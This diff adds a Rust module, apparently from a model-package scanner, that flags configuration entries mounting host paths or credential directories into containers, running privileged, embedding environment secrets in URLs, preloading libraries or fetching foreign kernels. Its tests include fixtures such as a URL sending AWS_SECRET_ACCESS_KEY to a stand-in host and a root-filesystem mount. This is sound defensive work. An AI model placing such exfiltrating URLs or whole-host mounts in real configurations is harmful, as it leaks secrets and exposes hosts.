@@ -1,0 +1,170 @@
+//! What a configuration hands out: places of the host to a container, secrets to an address, programs to an
+//! interpreter, and what it holds in another form.
+
+use super::{Act, MAX_SAID, Reader, Said};
+use crate::metadata::{self, Text};
+use crate::pickle::Effect;
+
+/// Texts that hold programs; more of them say nothing new.
+const MAX_HIDDEN: usize = 16;
+/// A program given as an argument.
+const MAX_PROGRAM: usize = 64 << 10;
+
+impl Reader {
+    pub(super) fn reaches(&mut self, near: &str, text: &str, string: bool, at: u64) {
+        if string && text.len() >= 64 && self.config.hidden.len() < MAX_HIDDEN {
+            let hides = metadata::hidden(text.as_bytes()).is_some();
+            if hides {
+                let path = self.path();
+                self.config.hidden.push(Text::new(&path, text));
+            }
+        }
+        if let Some(why) = self.of_the_host(near, text) {
+            self.say(|config| &mut config.host, why, at);
+        }
+        if sends_secret(text) {
+            self.say(|config| &mut config.sent, text.chars().take(200).collect(), at);
+        }
+        let before = self.levels.last().filter(|level| level.list).map(|level| level.before.clone());
+        let before = before.unwrap_or_default();
+        if PRELOADS.contains(&near) || PRELOADS.contains(&before.as_str()) {
+            let name: &str = if PRELOADS.contains(&near) { near } else { &before };
+            let line = format!("{name}={}", text.chars().take(400).collect::<String>());
+            self.say(|config| &mut config.commands, line, at);
+        }
+        if matches!(before.as_str(), "-c" | "-e" | "--eval")
+            && matches!(near, "args" | "argv" | "command" | "cmd" | "entrypoint")
+        {
+            let program = text.chars().take(MAX_PROGRAM).collect();
+            self.say(|config| &mut config.programs, program, at);
+        }
+        let chooses = near.ends_with("_implementation") || near.ends_with("_implementation_internal");
+        if (chooses || self.below("kernel_config") || self.below("kernel_mapping")) && foreign_kernel(text) {
+            self.item(Act::ForeignCode, text, Effect::Imports, at);
+        }
+        if let Some(level) = self.levels.last_mut().filter(|level| level.list) {
+            level.before = text.chars().take(40).collect();
+        }
+    }
+
+    fn say(&mut self, list: fn(&mut super::Config) -> &mut Vec<Said>, text: String, at: u64) {
+        let path = self.path();
+        let list = list(&mut self.config);
+        if list.len() < MAX_SAID {
+            list.push(Said { path, text, offset: at });
+        }
+    }
+
+    /// A place or a right of the host that a container is given, in words.
+    fn of_the_host(&self, near: &str, text: &str) -> Option<String> {
+        let within = |key: &str| self.levels.iter().any(|level| level.key == key);
+        let shown = || text.chars().filter(|c| !c.is_control()).take(120).collect::<String>();
+        let mounts = matches!(near, "volumes" | "binds" | "Binds" | "mounts");
+        if mounts || within("runArgs") || near == "runArgs" {
+            let given =
+                text.trim_start_matches("--volume=").trim_start_matches("-v=").trim_start_matches("-v ");
+            let source = match given.split_once("source=") {
+                Some((_, rest)) => rest.split(',').next(),
+                None => given.split_once(':').map(|(source, _)| source),
+            };
+            if source.is_some_and(of_everybody) {
+                return Some(format!("`{}` of the host is mounted", shown()));
+            }
+        }
+        let source = near == "source" && (within("volumes") || within("mounts"));
+        if (source || near == "path" && within("hostPath")) && of_everybody(text) {
+            return Some(format!("`{}` of the host is mounted", shown()));
+        }
+        let all = near == "privileged" && text == "true" && (within("services") || within("securityContext"));
+        (all || text == "--privileged" && (near == "runArgs" || near == "args"))
+            .then(|| "it is given every right on the host".to_owned())
+    }
+}
+
+const PRELOADS: [&str; 3] = ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"];
+
+/// Places of a host that no model needs: everything, its settings, its processes, its keys, its container engine.
+fn of_everybody(path: &str) -> bool {
+    const PLACES: [&str; 9] = [
+        "",
+        "/etc",
+        "/root",
+        "/proc",
+        "/boot",
+        "/home",
+        "/var/run/docker.sock",
+        "/run/docker.sock",
+        "/run/containerd/containerd.sock",
+    ];
+    const KEYS: [&str; 4] = ["/.ssh", "/.aws", "/.kube", "/.gnupg"];
+    if !path.starts_with(['/', '~', '$']) {
+        return false;
+    }
+    let path = path.trim_end_matches('/').replace("${HOME}", "$HOME");
+    PLACES.contains(&path.as_str()) || KEYS.iter().any(|key| path.ends_with(key))
+}
+
+/// Whether an address is put together with a secret of the environment, beside its host.
+fn sends_secret(text: &str) -> bool {
+    const SECRETS: [&str; 7] = ["KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "CREDENTIAL", "COOKIE"];
+    let Some((_, rest)) = text.split_once("http").and_then(|(_, rest)| rest.split_once("://")) else {
+        return false;
+    };
+    // What comes before the host signs in to it, as addresses of package indices do.
+    let Some(path) = rest.find(['/', '?']).and_then(|at| rest.get(at..)) else { return false };
+    ["${oc.env:", "${env:", "${oc.decode:"].iter().any(|resolver| {
+        path.split(resolver).skip(1).any(|name| {
+            let name = name.trim_start_matches("${oc.env:");
+            let name = name.split([',', '}', ':']).next().unwrap_or("").to_ascii_uppercase();
+            SECRETS.iter().any(|secret| name.contains(secret))
+        })
+    })
+}
+
+/// Whether a choice of an implementation names a repository, `owner/name`, whose code is fetched and imported.
+fn foreign_kernel(text: &str) -> bool {
+    let text = text.rsplit('|').next().unwrap_or(text);
+    let name = text.split([':', '@']).next().unwrap_or("");
+    let Some((owner, repository)) = name.split_once('/') else { return false };
+    let plain = |part: &str| {
+        !part.is_empty() && part.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+    };
+    // The library's own kernels are kept there.
+    owner != "kernels-community" && plain(owner) && plain(repository)
+}
+
+#[cfg(test)]
+mod tests {
+    use mantlet_vocab::MemorySource;
+
+    use super::super::{Config, json, yaml};
+    use crate::pickle::Effects;
+
+    fn read(text: &str) -> Config {
+        json(&MemorySource::new(text.as_bytes()), Effects::default())
+    }
+
+    #[test]
+    fn what_is_handed_out_is_told() {
+        let host = |text: &str| yaml(text, Effects::default()).host.len();
+        assert_eq!(host("docker_env:\n  volumes: ['/:/host:rw', '/data:/data']\n"), 1);
+        assert_eq!(host("services:\n  a:\n    privileged: true\n    volumes:\n    - ./w:/w\n"), 1);
+        assert_eq!(host("volumes:\n- name: v\n  hostPath:\n    path: /etc\n"), 1);
+        assert_eq!(host("services:\n  a:\n    volumes:\n    - /etc/localtime:/etc/localtime:ro\n"), 0);
+        let sent = |text: &str| yaml(text, Effects::default()).sent.len();
+        assert_eq!(sent("url: https://x.example/log?k=${oc.env:AWS_SECRET_ACCESS_KEY,none}\n"), 1);
+        assert_eq!(sent("url: https://x.example/${oc.env:WANDB_PROJECT,none}\n"), 0);
+        assert_eq!(sent("url: https://u:${oc.env:TOKEN}@x.example/a\n"), 0);
+    }
+
+    #[test]
+    fn kernels_programs_and_hidden_texts_are_told() {
+        assert_eq!(read(r#"{"_attn_implementation_internal": "a/b:forward"}"#).items.len(), 1);
+        assert_eq!(read(r#"{"attn_implementation": "flash_attention_2"}"#).items.len(), 0);
+        assert_eq!(read(r#"{"attn_implementation": "kernels-community/flash"}"#).items.len(), 0);
+        assert_eq!(read(r#"{"argv": ["python", "-c", "print(1)"]}"#).programs.len(), 1);
+        assert_eq!(read(r#"{"argv": ["python", "-m", "x"]}"#).programs.len(), 0);
+        let elf = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
+        assert_eq!(read(&format!("{{\"a\": \"data:x;base64,{elf}\"}}")).hidden.len(), 1);
+    }
+}
